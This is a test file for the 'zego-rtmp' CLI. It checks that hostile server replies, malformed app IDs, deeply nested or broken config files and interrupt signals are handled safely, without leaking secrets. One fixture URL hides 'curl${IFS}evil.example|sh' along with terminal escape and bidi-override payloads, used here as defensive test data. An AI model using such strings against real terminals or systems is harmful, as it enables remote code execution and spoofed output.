/**
 * The real `zego-rtmp` (packages/cli/dist/bin.js) against hostile servers, environments, files and signals: what a
 * server sends cannot drive the terminal; `ZEGO_APP_ID` is decimal digits only; an emulator configuration nested
 * thousands of levels deep, or with a syntax error next to a secret, is one short line that quotes nothing; a
 * dispatch stopped by SIGINT or SIGTERM says so and exits with 130 or 143.
 */
import { DispatchCommand } from "@effect-zego/cli"
import { afterAll, assert, describe, it } from "@effect/vitest"
import * as ConfigProvider from "effect/ConfigProvider"
import * as Effect from "effect/Effect"
import * as Option from "effect/Option"
import { spawn } from "node:child_process"
import type { ChildProcess } from "node:child_process"
import * as fs from "node:fs"
import * as Http from "node:http"
import * as os from "node:os"
import * as path from "node:path"
import { fileURLToPath } from "node:url"
import { figures, held, save } from "./figures.js"
import { query, serve } from "./loopbackServer.js"

const BIN = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../../cli/dist/bin.js")
const SECRET = "5e1ec7ed5e1ec7ed5e1ec7ed5e1ec7ed"

afterAll(() => save("cli-hostile"))

/** Characters a terminal obeys: C0 controls but the line feed, DEL, C1, bidi controls, line separators. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/

interface Result {
  readonly code: number | null
  readonly signal: NodeJS.Signals | null
  readonly stdout: string
  readonly stderr: string
}

interface Started {
  readonly child: ChildProcess
  readonly exit: Effect.Effect<Result>
}

/** Starts `zego-rtmp args…` with only the given `ZEGO_*` variables; `exit` gives its end (SIGKILL after a minute). */
const start = (args: ReadonlyArray<string>, env: Record<string, string> = {}) =>
  Effect.acquireRelease(
    Effect.sync((): Started => {
      const clean = Object.fromEntries(
        Object.entries(process.env).filter(([key]) => !key.startsWith("ZEGO_") && key !== "NODE_OPTIONS")
      )
      const child = spawn(process.execPath, [BIN, ...args], {
        env: { ...clean, NO_COLOR: "1", ...env },
        stdio: ["ignore", "pipe", "pipe"]
      })
      let stdout = ""
      let stderr = ""
      child.stdout.setEncoding("utf8").on("data", (chunk: string) => (stdout += chunk))
      child.stderr.setEncoding("utf8").on("data", (chunk: string) => (stderr += chunk))
      // Only a guard against a hang: every outcome is asserted from what the process did before it ended.
      const timer = setTimeout(() => child.kill("SIGKILL"), 60_000)
      const exit = new Promise<Result>((resolve) =>
        child.once("close", (code, signal) => {
          clearTimeout(timer)
          resolve({ code, signal, stdout, stderr })
        })
      )
      figures.requests++
      return { child, exit: Effect.promise(() => exit) }
    }),
    ({ child }) => Effect.sync(() => child.exitCode === null && child.signalCode === null && child.kill("SIGKILL"))
  )

const run = (args: ReadonlyArray<string>, env?: Record<string, string>) =>
  Effect.scoped(Effect.flatMap(start(args, env), ({ exit }) => exit))

const lines = (text: string) => text.split("\n").filter((line) => line.trim() !== "")

/** A loopback server answering each call by its `StreamId`; it counts the calls and holds open those it must. */
const hostileServer = (answers: Record<string, (res: Http.ServerResponse) => void>) =>
  Effect.gen(function*() {
    const calls: Array<string> = []
    const waiting: Array<() => void> = []
    const baseUrl = yield* serve((req, res) => {
      const streamId = query(req).get("StreamId") ?? ""
      calls.push(streamId)
      waiting.splice(0).forEach((wake) => wake())
      const answer = answers[streamId]
      if (answer === undefined) res.writeHead(404).end()
      else answer(res)
    })
    return {
      baseUrl,
      calls,
      /** Waits until the server has received `n` calls in all. */
      received: (n: number) =>
        Effect.async<void>((resume) => {
          const check = () => (calls.length >= n ? resume(Effect.void) : waiting.push(check))
          check()
        })
    }
  })

const envelope = (body: Record<string, unknown>) => (res: Http.ServerResponse) =>
  res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(body))

/** Writes `content` to `emulator.json` in a fresh temporary folder, removed afterwards. */
const withFile = <A, E, R>(content: string, f: (file: string) => Effect.Effect<A, E, R>) =>
  Effect.acquireUseRelease(
    Effect.sync(() => fs.mkdtempSync(path.join(os.tmpdir(), "zego-cli-hostile-"))),
    (dir) => {
      const file = path.join(dir, "emulator.json")
      fs.writeFileSync(file, content)
      return f(file)
    },
    (dir) => Effect.sync(() => fs.rmSync(dir, { recursive: true, force: true }))
  )

const push = (streamId: string, ...more: ReadonlyArray<string>) => [
  "dispatch",
  "--type",
  "push",
  "--stream-id",
  streamId,
  ...more
]

describe("zego-rtmp against hostile input", () => {
  it.scopedLive("what a server sends is printed escaped: no forged line, no escape sequence, no bidi override", () =>
    Effect.gen(function*() {
      const requestId = "r-1\u001b[2J\u202e\nForged: you are safe"
      const url = "rtmp://198.51.100.1:1935/live/s\u001b[2K\u001b[1Gcurl${IFS}evil.example|sh;#\u202e\u009b"
      const message = "bad\n\u001b[31mFORGED LINE\u2028more\u202e"
      const server = yield* hostileServer({
        inject: envelope({ Code: 0, Message: "ok", RequestId: requestId, Data: [url] }),
        message: envelope({ Code: 1005, Message: message, RequestId: "q\u001b]0;owned\u0007" })
      })
      const env = { ZEGO_APP_ID: "4242", ZEGO_SERVER_SECRET: SECRET, ZEGO_BASE_URL: server.baseUrl }
      const human = yield* run(push("inject"), env)
      const json = yield* run(push("inject", "--json"), env)
      const error = yield* run(push("message"), env)

      for (const result of [human, json, error]) {
        assert.notMatch(result.stdout + result.stderr, UNSAFE, JSON.stringify(result))
        assert.notInclude(result.stdout + result.stderr, SECRET)
      }
      // The core may come to refuse such a node URL (a ResponseDecodeError); then the error line is what is checked.
      assert.oneOf(human.code, [0, 1], human.stderr)
      if (human.code === 0) {
        assert.include(human.stdout, "RequestId r-1\\x1b[2J\\u202e\\nForged: you are safe")
        assert.include(human.stdout, "\\x1b[2K\\x1b[1Gcurl${IFS}evil.example|sh;#\\u202e\\x9b")
        for (const line of lines(human.stdout)) assert.notMatch(line, /^\s*(Forged|curl)/, line)
      } else {
        assert.lengthOf(lines(human.stderr), 1)
      }
      assert.oneOf(json.code, [0, 1], json.stderr)
      if (json.code === 0) {
        // Exact: every string reads back as the server sent it.
        const document = JSON.parse(json.stdout) as { requestId: string; nodes: Array<{ url: string }> }
        assert.strictEqual(document.requestId, requestId)
        assert.strictEqual(document.nodes[0]?.url, url)
      }
      assert.strictEqual(error.code, 1, error.stderr)
      assert.strictEqual(error.stdout, "")
      assert.lengthOf(lines(error.stderr), 1, error.stderr)
      assert.include(error.stderr, "bad\\n\\x1b[31mFORGED LINE\\u2028more\\u202e")
      assert.include(error.stderr, "q\\x1b]0;owned\\x07")
      held("cli-terminal-injection")
    }))

  it.scopedLive("ZEGO_APP_ID is decimal digits only, and an empty one says it is empty: exit 2, nothing sent", () =>
    Effect.gen(function*() {
      const misread = ["", "0x10", "0b11", "0o7", "1e3", " 12", "12 ", "+12", "-1", "1.0"]
      for (const appId of misread) {
        figures.badInputs++
        const provider = ConfigProvider.fromMap(new Map([["ZEGO_APP_ID", appId], ["ZEGO_SERVER_SECRET", SECRET]]))
        const target = yield* DispatchCommand.resolveTarget({
          region: Option.none(),
          baseUrl: Option.none(),
          testEnv: false
        }).pipe(Effect.withConfigProvider(provider), Effect.either)
        assert.isTrue(target._tag === "Left" && target.left._tag !== "MissingCredentialsError", JSON.stringify(appId))
      }
      const server = yield* hostileServer({})
      for (const appId of ["", "0x10"]) {
        const result = yield* run(push("demo"), {
          ZEGO_APP_ID: appId,
          ZEGO_SERVER_SECRET: SECRET,
          ZEGO_BASE_URL: server.baseUrl
        })
        assert.strictEqual(result.code, 2, result.stderr)
        assert.strictEqual(result.stdout, "")
        assert.lengthOf(lines(result.stderr), 1, result.stderr)
        assert.match(result.stderr, /^ConfigError: .*ZEGO_APP_ID/)
        if (appId === "") assert.match(result.stderr, /empty/)
        assert.notInclude(result.stderr, SECRET)
      }
      assert.deepStrictEqual(server.calls, [], "no request went out")
      held("cli-env-decimal")
    }))

  it.scopedLive("a dispatch stopped by SIGINT or SIGTERM while the server holds it: 130 or 143, one line", () =>
    Effect.gen(function*() {
      const server = yield* hostileServer({ hold: () => {} })
      const env = { ZEGO_APP_ID: "4242", ZEGO_SERVER_SECRET: SECRET, ZEGO_BASE_URL: server.baseUrl }
      const results: Array<Result> = []
      for (const [signal, index] of [["SIGINT", 1], ["SIGTERM", 2]] as const) {
        const cli = yield* start(push("hold"), env)
        // Signalled only once the request is in: the CLI is then mid-call, waiting for the answer.
        yield* server.received(index)
        cli.child.kill(signal)
        results.push(yield* cli.exit)
      }
      const [sigint, sigterm] = results as [Result, Result]
      assert.strictEqual(sigint.code, 130, JSON.stringify(sigint))
      assert.strictEqual(sigterm.code, 143, JSON.stringify(sigterm))
      for (const [result, signal] of [[sigint, "SIGINT"], [sigterm, "SIGTERM"]] as const) {
        assert.strictEqual(result.stdout, "")
        assert.lengthOf(lines(result.stderr), 1, result.stderr)
        assert.match(result.stderr, new RegExp(`^zego-rtmp dispatch: interrupted by ${signal}`))
      }
      held("cli-interrupt-status")
    }))

  it.live("an emulator configuration nested 3 000 levels deep: ConfigFileError, exit 2, one short line", () =>
    Effect.gen(function*() {
      const deep = `${"[".repeat(3000)}${"]".repeat(3000)}`
      const config = `{"apps":[{"appId":1,"serverSecret":"${SECRET}","isTest":${deep}}],"nodes":${deep}}`
      const result = yield* withFile(config, (file) => run(["emulator", "--config", file]))
      figures.badInputs++
      assert.strictEqual(result.code, 2, result.stderr.slice(0, 2000))
      assert.lengthOf(lines(result.stderr), 1)
      assert.match(result.stderr, /^ConfigFileError: .* is invalid: apps\.0\.isTest: /)
      assert.isBelow(result.stderr.length, 1200)
      assert.notInclude(result.stderr, SECRET)
      held("deep-json-emulator-config")
    }))

  it.live("a syntax error next to a secret in an emulator configuration: its line and column, no file content", () =>
    Effect.gen(function*() {
      const secret = "Qz7Wk2Lp9Xv4Rt6Yb1Nm8Hc3Jd5Fs0Ga"
      // The secret is not quoted: JSON.parse's message would show the text around the error.
      const config = `{\n  "apps": [\n    { "appId": 1, "serverSecret": ${secret} }\n  ]\n}\n`
      const result = yield* withFile(
        config,
        (file) => Effect.map(run(["emulator", "--config", file]), (result) => ({ ...result, file }))
      )
      figures.badInputs++
      const shown = result.stderr.replace(result.file, "")
      for (let i = 0; i + 4 <= secret.length; i++) {
        assert.notInclude(shown, secret.slice(i, i + 4), "a part of the secret is printed")
      }
      assert.strictEqual(result.code, 2, result.stderr)
      assert.lengthOf(lines(result.stderr), 1)
      assert.match(result.stderr, /^ConfigFileError: .* is not JSON: line 3, column 35: /)
      held("emulator-config-secret")
    }))
})
